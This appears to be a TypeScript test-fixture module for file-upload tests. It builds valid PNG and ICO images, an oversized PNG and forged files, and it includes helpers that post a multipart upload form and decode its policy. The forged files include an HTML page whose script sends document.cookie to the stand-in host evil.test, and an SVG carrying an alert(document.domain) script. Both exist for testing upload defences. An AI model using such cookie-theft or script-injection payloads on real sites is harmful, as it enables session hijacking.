/**
 * Files for the upload tests, built here so every test knows exactly what it sends: real PNG
 * and ICO images, and forged files. And the browser's side of an upload: a multipart POST of the
 * intent's form fields with the file last.
 */
import { crc32, deflateSync } from 'node:zlib';

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A real PNG of `width` × `height` pixels in one colour (RGB, 8 bits), decodable by any viewer. */
export function pngImage(width = 2, height = 2, rgb: [number, number, number] = [0x1a, 0x2b, 0x3c]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: width }, () => rgb).flat())]);
  const pixels = Buffer.concat(Array.from({ length: height }, () => row));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A PNG padded past `bytes` with an ancillary chunk (still a valid PNG, only too large). */
export function largePng(bytes: number): Buffer {
  const image = pngImage();
  const iend = image.subarray(image.length - 12);
  const filler = chunk('tEXt', Buffer.alloc(bytes, 0x61));
  return Buffer.concat([image.subarray(0, image.length - 12), filler, iend]);
}

/** An ICO holding one PNG image (how modern favicons are made). */
export function icoImage(): Buffer {
  const png = pngImage(16, 16);
  const header = Buffer.from([0, 0, 1, 0, 1, 0]);
  const entry = Buffer.alloc(16);
  entry.set([16, 16, 0, 0], 0);
  entry.writeUInt16LE(1, 4);
  entry.writeUInt16LE(32, 6);
  entry.writeUInt32LE(png.length, 8);
  entry.writeUInt32LE(6 + 16, 12);
  return Buffer.concat([header, entry, png]);
}

export const htmlPage = Buffer.from(
  '<!DOCTYPE html><html><body><script>fetch("https://evil.test/?c=" + document.cookie)</script></body></html>',
);

export const safeSvg = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n' +
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#1a2b3c"/></svg>\n',
);

export const scriptSvg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><script>alert(document.domain)</script>' +
    '<rect width="10" height="10"/></svg>',
);

/**
 * POST the form of an upload intent as a browser would: every field of `upload_fields` in order
 * (`url` among them, which the policy allows), then the file as the last part, `file`.
 * `override` changes fields on the way (a client lying about the Content-Type).
 */
export async function postUploadForm(
  uploadFields: Record<string, string>,
  file: { bytes: Buffer; name: string; type: string },
  override: Record<string, string> = {},
): Promise<Response> {
  const form = new FormData();
  for (const [name, value] of Object.entries({ ...uploadFields, ...override })) form.append(name, value);
  form.append('file', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  const url = uploadFields.url;
  if (!url) throw new Error('upload_fields has no url');
  return fetch(url, { method: 'POST', body: form });
}

/** The decoded POST policy of a form. */
export function policyOf(uploadFields: Record<string, string>): {
  expiration: string;
  conditions: unknown[];
} {
  return JSON.parse(Buffer.from(uploadFields.Policy ?? '', 'base64').toString('utf8'));
}
